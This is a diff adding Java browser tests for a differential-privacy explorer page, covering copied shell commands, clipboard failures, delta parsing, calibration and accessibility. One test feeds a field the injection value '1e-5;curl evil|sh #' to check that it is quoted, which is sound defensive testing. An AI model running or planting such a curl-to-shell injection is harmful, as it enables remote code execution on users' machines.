@@ -146,6 +146,126 @@ class PageTest {
                 .contains("gaussian(", "laplace(");
     }
 
+    /** A link is anybody's: what it puts into a field is a word for the shell, never a command. */
+    @Test
+    void copiedCommandsQuoteEveryField() {
+        explorer("{\"plans\": [\"gaussian(2)\"], \"delta\": \"1e-5;curl evil|sh #\"}");
+        browser().await("document.querySelector('#delta-problem').textContent");
+        browser().click("#copy-command");
+        browser().await("document.querySelector('#toast').textContent");
+        assertThat(copied()).contains("--delta '1e-5;curl evil|sh #'");
+        explorer("{\"plans\": [\"gaussian(2)\"], \"delta\": \"1e-5\"}");
+        browser().await(ANSWERED);
+        browser().click("#copy-command");
+        browser().await("document.querySelector('#toast').textContent");
+        assertThat(copied()).as("control").endsWith("./sordino epsilon 'gaussian(2)' --delta 1e-5");
+    }
+
+    /** What was copied, or what the page asks to copy by hand. */
+    private String copied() {
+        return browser()
+                .value("(t => t.dataset.copied ?? t.textContent)(document.querySelector('#toast'))")
+                .asText();
+    }
+
+    @Test
+    void aCopyThatFailsIsSaidToHaveFailed() {
+        browser().open(url());
+        browser().await(ANSWERED);
+        browser().value("navigator.clipboard.writeText = () => Promise.reject(new Error('no')), 1");
+        browser().click("#copy-command");
+        browser().await("document.querySelector('#toast').textContent");
+        assertThat(text("#toast")).contains("did not let the page copy", "./sordino epsilon");
+    }
+
+    @Test
+    void aDeltaThatNoDoubleHoldsIsNotZero() {
+        explorer("{\"plans\": [\"gaussian(2)\"], \"delta\": \"1e-400\"}");
+        browser().await("document.querySelector('#delta-problem').textContent");
+        assertThat(text("#delta-problem")).contains("smaller than a double can hold");
+        explorer("{\"plans\": [\"laplace(2)\"], \"delta\": \"0\"}");
+        browser().await(ANSWERED);
+        assertThat(text("#answers .big")).as("control").contains("0.5");
+    }
+
+    /** What is drawn is pale from the key on, not from the answer on. */
+    @Test
+    void whatIsOldIsPaleAtOnce() {
+        explorer("{\"plans\": [\"gaussian(2)\"]}");
+        browser().await(ANSWERED);
+        assertThat(browser()
+                        .value("(b => { b.value = 'gaussian(3)'; b.dispatchEvent(new Event('input'));"
+                                + " return ['answers', 'plot', 'statement', 'proof'].map(i =>"
+                                + " document.getElementById(i).classList.contains('stale')).join(); })"
+                                + "(document.querySelector('#plan-0'))")
+                        .asText())
+                .isEqualTo("true,true,true,true");
+        browser().await(ANSWERED);
+    }
+
+    @Test
+    void warningsStandOnTheCard() {
+        explorer("{\"plans\": [\"15 * shuffled_batches(235, gaussian(1.1))\", \"500 * gaussian(1)\"], \"active\": 1}");
+        browser().await(ANSWERED);
+        browser().await("document.querySelector('#answers .active .warning')");
+        assertThat(browser()
+                        .value("document.querySelector('#answers .active').textContent.includes("
+                                + "document.querySelector('#answers .warning').textContent)")
+                        .asBoolean())
+                .isTrue();
+    }
+
+    @Test
+    void aRefusedPlanLeavesTheOthersTheirWordsAndProofs() {
+        explorer("{\"plans\": [\"gaussian(2)\", \"gausian(2)\"], \"active\": 1}");
+        browser().await(ANSWERED);
+        assertThat(text("#statement")).contains("About plan 1", "differentially private");
+        assertThat(picture("#plot").path("series").size()).isEqualTo(1);
+    }
+
+    @Test
+    void aQuestionMarkIsCalibrated() {
+        explorer("{\"plans\": [\"1000 * gaussian(?)\"], \"target\": \"2\", \"delta\": \"1e-5\"}");
+        browser().await(ANSWERED);
+        assertThat(text("#answers .big")).startsWith("? = 63.05");
+        assertThat(text("#answers")).contains("keeps \u03b5 \u2264 2");
+        assertThat(picture("#plot").path("series").size()).isEqualTo(1);
+        browser().click("#copy-command");
+        browser().await("document.querySelector('#toast').textContent");
+        assertThat(copied()).contains("calibrate '1000 * gaussian(?)' --epsilon 2 --delta 1e-5");
+    }
+
+    @Test
+    void picturesFollowTheSizeOfTheirPlace() {
+        explorer("{\"plans\": [\"gaussian(2)\"]}");
+        browser().await(ANSWERED);
+        String box = "document.querySelector('#plot > svg').getAttribute('viewBox')";
+        String wide = browser().value(box).asText();
+        browser().resize(420, 900);
+        browser().await(box + " !== '" + wide + "'");
+        browser().resize(1280, 900);
+        browser().await(box + " === '" + wide + "'");
+    }
+
+    /** A fifth of the reports is made up, and the bars must reach the truth all the same. */
+    @Test
+    void errorBarsHoldWhatCorruptClientsDo() {
+        browser()
+                .open(url() + "shuffle#s="
+                        + URLEncoder.encode(
+                                        "{\"clients\": 20000, \"corrupt\": 0.2, \"epsilon\": 4}",
+                                        StandardCharsets.UTF_8)
+                                .replace("+", "%20"));
+        browser().await("document.querySelector('#histogram').picture");
+        browser().click("#finish");
+        browser().await("Number(document.querySelector('#stats').dataset.honest) > 10000");
+        JsonNode shown = picture("#histogram");
+        for (int i = 0; i < shown.path("truth").size(); i++)
+            assertThat(Math.abs(shown.path("truth").path(i).asDouble()
+                            - shown.path("estimates").path(i).asDouble()))
+                    .isLessThan(shown.path("half").path(i).asDouble());
+    }
+
     /** A plan that is far more private than its neighbours in the picture is still a curve there, not a dot. */
     @Test
     void profilesOfVeryDifferentPlansAreAllCurves() {
@@ -345,6 +465,8 @@ class PageTest {
     void copiesAreTheCommandTheJavaAndTheEvent() {
         explorer("{\"plans\": [\"3 * gaussian(4)\"], \"relation\": \"replace-one\"}");
         browser().await(ANSWERED);
+        // a browser without a window lets nobody copy
+        browser().value("navigator.clipboard.writeText = () => Promise.resolve(), 1");
         browser().click("#copy-command");
         browser().await("document.querySelector('#toast').dataset.copied");
         assertThat(browser()
@@ -356,7 +478,7 @@ class PageTest {
         assertThat(browser()
                         .value("document.querySelector('#toast').dataset.copied")
                         .asText())
-                .contains("Privacy.of(\"3 * gaussian(4)\").under(Relation.REPLACE_ONE).within(1e-3).epsilon(0.00001)");
+                .contains("Privacy.of(\"3 * gaussian(4)\").under(Relation.REPLACE_ONE).within(0.001).epsilon(0.00001)");
         browser().click("#copy-json");
         browser().await("document.querySelector('#toast').dataset.copied.includes('SelfComposedDpEvent')");
     }
@@ -397,7 +519,8 @@ class PageTest {
         // the corrupt send the last answer: it is overstated
         assertThat(histogram.path("estimates").path(3).doubleValue())
                 .isGreaterThan(histogram.path("truth").path(3).doubleValue());
-        assertThat(histogram.path("half").path(0).doubleValue()).isLessThan(0.05);
+        // noise alone is below 0.05; what the corrupt may add is in the bar too
+        assertThat(histogram.path("half").path(0).doubleValue()).isBetween(0.05, 0.15);
         browser().fill("#dropouts", "0.5");
         browser().await("Number(document.querySelector('#stats').dataset.honest) < 3000");
         assertThat(browser().value("location.hash").asText()).contains("dropouts%22%3A0.5");
@@ -520,17 +643,19 @@ class PageTest {
         explorer("{\"plans\": [\"gaussian(2)\", \"3 * gausian(2)\"], \"active\": 1}");
         browser().await("document.querySelector('#problem-1').textContent && document.querySelector('#plot').picture");
         browser().await("!document.querySelector('.stale')");
-        assertThat(text("#proof")).isEqualTo("Waiting for a plan that is covered.");
+        // a refused plan silences nobody: the proof of the other one stands
+        assertThat(text("#proof")).startsWith("gaussian(2) epsilon");
         assertThat(seriousFindings()).isEmpty();
         browser().fill("#delta", "none");
         browser().await("document.querySelector('#answers').textContent === 'Waiting for a delta.'");
         assertThat(seriousFindings()).isEmpty();
     }
 
+    /** What is out of date is pale on purpose, and inactive: it is left out. */
     private JsonNode seriousFindings() throws IOException {
         browser().value(axe());
         return browser()
-                .value("axe.run(document, {resultTypes: ['violations']}).then(r => r.violations"
+                .value("axe.run({exclude: [['.stale']]}, {resultTypes: ['violations']}).then(r => r.violations"
                         + ".filter(v => v.impact === 'serious' || v.impact === 'critical')"
                         + ".map(v => v.id + ': ' + v.nodes.map(n => n.html.slice(0, 120)).join(' | ')))");
     }
